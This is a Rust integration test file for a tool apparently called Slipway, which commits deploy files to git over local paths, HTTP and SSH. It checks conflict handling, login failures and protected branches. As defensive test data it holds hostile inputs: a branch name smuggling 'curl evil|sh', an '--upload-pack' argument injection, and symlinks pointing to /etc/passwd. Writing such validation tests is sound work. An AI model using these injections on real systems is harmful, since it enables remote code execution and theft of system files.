//! Commits that Slipway makes: in folders, over HTTP and over SSH. Nothing that others wrote is overwritten.

use std::path::Path;
use std::time::Duration;

use serde_json::{Value, json};
use slipway_engine::gather::SourceReader;
use slipway_engine::remote::{GitChange, GitFault, GitSaved, Seen, object_id};
use slipway_model::id::{AccountId, PrincipalId, Scope};
use slipway_plan::{ConnectorPlan, GitVersion};
use slipway_source::Source;

use crate::host::Host;
use crate::ssh::{connector as by_key, stand_in};
use crate::support::{
    anonymous, bare, branch, connector, git, one, repository, shown, source, source_by, wanted,
    write,
};

const LIMIT: Duration = Duration::from_secs(20);

/// `jo:t0p-s3cret-token`, as a browser would send it.
const BASIC: &str = "Basic am86dDBwLXMzY3JldC10b2tlbg==";

const PATH: &str = ".harness/deploy.yaml";

fn login() -> Value {
    json!({"type": "UsernameToken", "spec": {"username": "jo", "tokenRef": "account.token"}})
}

fn change(connector: &ConnectorPlan, content: &str, seen: Seen) -> GitChange {
    GitChange {
        connector: connector.clone(),
        scope: Scope::account(AccountId::new("acme")),
        repository: None,
        branch: Some("main".to_owned()),
        fresh: false,
        base: None,
        path: PATH.to_owned(),
        content: content.to_owned(),
        message: "Change deploy".to_owned(),
        author: PrincipalId::new("jo@example.com"),
        seen,
    }
}

fn object(content: &str, commit: &str) -> Seen {
    Seen::Object {
        object: object_id(content),
        commit: Some(commit.to_owned()),
    }
}

async fn saved(source: &Source, change: &GitChange) -> GitSaved {
    source.save_file(change).await.expect("a commit")
}

async fn conflict(source: &Source, change: &GitChange) -> String {
    match source.save_file(change).await {
        Err(GitFault::Conflict(why)) => why,
        other => panic!("{other:?}"),
    }
}

async fn failure(source: &Source, change: &GitChange) -> String {
    match source.save_file(change).await {
        Err(GitFault::Failed(why)) => why,
        other => panic!("{other:?}"),
    }
}

/// Somebody else commits a file to a bare repository.
fn meanwhile(bare: &Path, path: &str, content: &str) -> String {
    let folder = tempfile::tempdir().expect("a folder");
    let (from, copy) = (bare.display().to_string(), folder.path());
    git(copy, &["clone", "-q", &from, "."]);
    write(copy, path, content);
    git(copy, &["add", "."]);
    git(copy, &["commit", "-qm", "meanwhile"]);
    git(copy, &["push", "-q", "origin", "HEAD:main"]);
    git(copy, &["rev-parse", "HEAD"])
}

/// A new file, a change, what others change meanwhile, and a new branch: the same whatever the way there.
async fn saves(source: &Source, code: &ConnectorPlan, bare: &Path) {
    let head = |name: &str| git(bare, &["rev-parse", name]);
    let before = head("main");
    let first = saved(source, &change(code, "a: 1\n", Seen::Nothing)).await;
    assert_eq!(
        (first.commit.as_str(), first.branch.as_str()),
        (head("main").as_str(), "main")
    );
    assert_eq!(git(bare, &["rev-parse", "main~1"]), before);
    assert_eq!(git(bare, &["show", &format!("main:{PATH}")]), "a: 1");
    assert_eq!(
        git(bare, &["log", "-1", "--format=%an %s", "main"]),
        "jo@example.com Change deploy"
    );
    assert_eq!(git(bare, &["diff", "--name-only", "main~1", "main"]), PATH);
    git(bare, &["fsck", "--strict"]);

    // Who was interrupted says it again.
    let again = saved(source, &change(code, "a: 1\n", Seen::Nothing)).await;
    assert_eq!(again, first);
    let why = conflict(source, &change(code, "b: 1\n", Seen::Nothing)).await;
    assert!(
        why.contains("is there already") && why.contains(&first.commit),
        "{why}"
    );

    // Others change other files: the commit goes on top of theirs.
    meanwhile(bare, "README", "theirs");
    let second = saved(
        source,
        &change(code, "a: 2\n", object("a: 1\n", &first.commit)),
    )
    .await;
    assert_eq!(git(bare, &["show", "main:README"]), "theirs");

    // Others change this one: both commits are named, and nothing is written.
    let theirs = meanwhile(bare, PATH, "a: theirs\n");
    let stale = change(code, "a: 3\n", object("a: 2\n", &second.commit));
    let why = conflict(source, &stale).await;
    assert!(
        why.contains(&second.commit)
            && why.contains(&theirs)
            && why.contains("nothing was written"),
        "{why}"
    );
    assert_eq!(head("main"), theirs);
    let resolved = GitChange {
        seen: Seen::Commit(theirs.clone()),
        ..stale
    };
    let third = saved(source, &resolved).await;
    assert_eq!(git(bare, &["rev-parse", "main~1"]), theirs);

    let fresh = GitChange {
        branch: Some("feature/x".to_owned()),
        fresh: true,
        base: Some("main".to_owned()),
        ..change(code, "a: 4\n", object("a: 3\n", &third.commit))
    };
    let made = saved(source, &fresh).await;
    assert_eq!(made.branch, "feature/x");
    assert_eq!(git(bare, &["show", &format!("feature/x:{PATH}")]), "a: 4");
    assert_eq!(head("main"), third.commit);
    let why = conflict(source, &fresh).await;
    assert!(why.contains("there is a branch feature/x already"), "{why}");

    // Without a name it is the default branch, which reading tells too.
    let found = one(source, wanted(code, GitVersion::Default, &[PATH]))
        .await
        .expect("a file");
    assert_eq!(
        (found.branch.as_deref(), shown(&found).as_str()),
        (Some("main"), ".harness/deploy.yaml=a: 3")
    );
    let unnamed = GitChange {
        branch: None,
        ..change(code, "a: 5\n", object("a: 3\n", &third.commit))
    };
    assert_eq!(saved(source, &unnamed).await.branch, "main");

    let gone = GitChange {
        branch: Some("mian".to_owned()),
        ..unnamed.clone()
    };
    let why = failure(source, &gone).await;
    assert!(why.contains("the nearest that exist: `main`"), "{why}");
    for name in ["--upload-pack=x", "a b", "x\";curl evil|sh;#"] {
        let hostile = GitChange {
            branch: Some(name.to_owned()),
            ..unnamed.clone()
        };
        let why = failure(source, &hostile).await;
        assert!(why.contains("is no name of a branch"), "{why}");
    }
}

fn copies() -> (tempfile::TempDir, tempfile::TempDir) {
    let (work, bare_copy) = (
        tempfile::tempdir().expect("a folder"),
        tempfile::tempdir().expect("a folder"),
    );
    repository(work.path());
    git(work.path(), &["checkout", "-q", "--", "."]);
    bare(work.path(), bare_copy.path());
    (work, bare_copy)
}

#[tokio::test]
async fn commits_are_made_in_a_repository_of_this_machine() {
    let (work, copy) = copies();
    let source = source(true, LIMIT);
    let code = connector(&format!("file://{}", copy.path().display()), anonymous());
    saves(&source, &code, copy.path()).await;

    // A working tree would fall behind its branch.
    let code = connector(&format!("file://{}", work.path().display()), anonymous());
    let why = failure(&source, &change(&code, "a: 1\n", Seen::Nothing)).await;
    assert!(why.contains("is checked out"), "{why}");
    let beside = GitChange {
        branch: Some("beside".to_owned()),
        fresh: true,
        ..change(&code, "a: 1\n", Seen::Nothing)
    };
    saved(&source, &beside).await;
    assert_eq!(
        git(work.path(), &["show", &format!("beside:{PATH}")]),
        "a: 1"
    );
    let plain = tempfile::tempdir().expect("a folder");
    let code = connector(&format!("file://{}", plain.path().display()), anonymous());
    let why = failure(&source, &change(&code, "a: 1\n", Seen::Nothing)).await;
    assert!(why.contains("is no repository"), "{why}");
}

#[tokio::test]
async fn commits_are_pushed_over_http_with_the_connectors_login() {
    let (_work, copy) = copies();
    let host = Host::start(copy.path().to_owned(), Some(BASIC.to_owned())).await;
    let source = source(false, LIMIT);
    saves(
        &source,
        &connector(&host.url("/acme/shop"), login()),
        copy.path(),
    )
    .await;

    let closed = connector(&host.url("/acme/shop"), anonymous());
    let why = failure(&source, &change(&closed, "x: 1\n", Seen::Nothing)).await;
    assert!(why.contains("the host asks for a login"), "{why}");
    // A branch that the host protects.
    git(copy.path(), &["config", "receive.denyUpdates", "true"]);
    write(
        copy.path(),
        "hooks/pre-receive",
        "#!/bin/sh\necho protected >&2\nexit 1\n",
    );
    let mode = std::os::unix::fs::PermissionsExt::from_mode(0o755);
    std::fs::set_permissions(copy.path().join("hooks/pre-receive"), mode).expect("a mode");
    let code = connector(&host.url("/acme/shop"), login());
    let found = one(&source, wanted(&code, branch("main"), &[PATH]))
        .await
        .expect("a file");
    let commit = found.commit.unwrap_or_default();
    let why = failure(&source, &change(&code, "a: 6\n", object("a: 5\n", &commit))).await;
    assert!(
        why.contains("the host refuses the commit: pre-receive hook declined"),
        "{why}"
    );
    assert_eq!(git(copy.path(), &["rev-parse", "main"]), commit);
}

#[tokio::test]
async fn commits_are_pushed_over_ssh_with_the_connectors_key() {
    let (_work, copy) = copies();
    let tools = tempfile::tempdir().expect("a folder");
    let source = source_by(&stand_in(tools.path()), LIMIT);
    let url = format!("ssh://git@code.example{}", copy.path().display());
    saves(&source, &by_key(&url, "account.ssh"), copy.path()).await;
    let closed = by_key("git@closed.example:a/b", "account.ssh");
    let why = failure(&source, &change(&closed, "x: 1\n", Seen::Nothing)).await;
    assert!(why.contains("does not accept the connector's key"), "{why}");
}

#[tokio::test]
async fn commits_never_lead_through_links_or_submodules() {
    let (work, copy) = (
        tempfile::tempdir().expect("a folder"),
        tempfile::tempdir().expect("a folder"),
    );
    let path = work.path();
    let [first, _] = repository(path);
    std::os::unix::fs::symlink("/etc", path.join("out")).expect("a link");
    std::os::unix::fs::symlink("/etc/passwd", path.join("link.yaml")).expect("a link");
    git(path, &["add", "out", "link.yaml"]);
    git(
        path,
        &[
            "update-index",
            "--add",
            "--cacheinfo",
            &format!("160000,{first},module"),
        ],
    );
    git(path, &["commit", "-qm", "hostile"]);
    bare(path, copy.path());
    let source = source(true, LIMIT);
    let code = connector(&format!("file://{}", copy.path().display()), anonymous());
    for (path, expected) in [
        ("out/x.yaml", "out is a symbolic link"),
        ("link.yaml", "link.yaml is a symbolic link"),
        ("module/x.yaml", "module is a submodule"),
        ("ecs", "ecs is a folder"),
        ("ecs/task.yaml/x.yaml", "ecs/task.yaml is a file"),
    ] {
        let hostile = GitChange {
            path: path.to_owned(),
            ..change(&code, "a: 1\n", Seen::Nothing)
        };
        let why = failure(&source, &hostile).await;
        assert!(why.contains(expected), "{path}: {why}");
    }
}
